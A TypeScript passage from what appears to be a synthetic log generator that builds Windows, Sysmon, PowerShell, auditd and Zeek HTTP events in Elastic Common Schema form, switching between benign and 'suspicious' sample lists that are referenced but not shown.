      return windowsEvent(host, time, code, 'System', 'Service Control Manager', ['configuration'], ['change'], {}, { ...service, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem', param1: service.ServiceName, param2: 'running' }, `Service ${service.ServiceName} (${code}).`);
    }
    case 'win-powershell': {
      const script = rng.pick(bad ? SuspiciousScripts : BenignScripts);
      return windowsEvent(host, time, '4104', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', ['process'], ['info'], {
        powershell: { file: { script_block_text: script, script_block_id: rng.uuid() }, sequence: 1, total: 1 },
        user: { name: user, domain: host.name },
      }, { Path: '' }, `Creating Scriptblock text (1 of 1):\n${script}`);
    }
    case 'linux-process': {
      const [image, args, parent] = rng.pick(bad ? SuspiciousLinux : BenignLinux);
      const commandLine = `${image.slice(image.lastIndexOf('/') + 1)} ${fill(args, rng, user)}`;
      return {
        '@timestamp': time,
        event: { kind: 'event', category: ['process'], type: ['start'], action: 'executed', module: 'auditd', dataset: 'auditd.log' },
        host: { name: host.name, hostname: host.name, ip: [host.ip], os: { type: 'linux', family: 'debian', platform: 'ubuntu' } },
        process: { pid: rng.int(1000, 60000), executable: image, name: baseName(image), command_line: commandLine, working_directory: `/home/${user}`, parent: { pid: rng.int(1, 60000), executable: parent, name: baseName(parent) } },
        user: { name: bad ? 'www-data' : user, id: String(rng.int(1000, 1010)) },
        org: host.org,
      };
    }
    case 'proxy': {
      const domain = rng.pick(bad ? SuspiciousDomains : BenignDomains);
      const path = fill(rng.pick(bad ? SuspiciousUrls : BenignUrls), rng, user);
      const query = path.includes('?') ? path.slice(path.indexOf('?') + 1) : undefined;
      const file = path.split('?')[0];
      const extension = baseName(file).includes('.') ? baseName(file).slice(baseName(file).lastIndexOf('.') + 1) : undefined;
      return {
        '@timestamp': time,
        event: { kind: 'event', category: ['network', 'web'], type: ['connection', 'protocol'], module: 'zeek', dataset: 'zeek.http' },
        source: { ip: `10.${rng.int(10, 37)}.20.${rng.int(2, 250)}`, port: rng.ephemeralPort() },
        destination: { ip: bad ? '203.0.113.50' : `198.51.100.${rng.int(2, 250)}`, port: 80, domain },
        network: { transport: 'tcp', protocol: 'http', type: 'ipv4' },
        url: { original: path, path: file, domain, ...(query ? { query } : {}), ...(extension ? { extension } : {}) },
        http: { version: '1.1', request: { method: rng.pick(['GET', 'GET', 'GET', 'POST']) }, response: { status_code: rng.pick([200, 200, 304, 404]), bytes: rng.int(0, 200000) } },
        user_agent: { original: rng.pick(bad ? SuspiciousAgents : BenignAgents) },
        org: host.org,
      };
    }
  }
}

/** A Sysmon event as Winlogbeat's sysmon module ships it. */
function sysmon(host: Host, time: string, code: string, category: string, type: string[], fields: Draft, eventData: Record<string, string>, message: string): Draft {
  return windowsEvent(host, time, code, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', [category], type, fields, { RuleName: '-', ...eventData }, message);
}

function windowsEvent(host: Host, time: string, code: string, channel: string, provider: string, category: string[], type: string[], fields: Draft, eventData: Record<string, string>, message: string): Draft {
  return {
    '@timestamp': time,
    message,
    event: { kind: 'event', code, category, type, provider, module: channel.includes('Sysmon') ? 'sysmon' : 'windows', dataset: `windows.${channel.toLowerCase().replace(/[^a-z]+/g, '_')}` },
    host: { name: host.name, hostname: host.name, ip: [host.ip], os: { type: 'windows', family: 'windows', platform: 'windows' } },
    winlog: { channel, provider_name: provider, computer_name: `${host.name}.corp.example`, event_id: code, record_id: String(Date.parse(time) % 1e7), event_data: eventData },
    ...fields,
    org: host.org,
  };
}
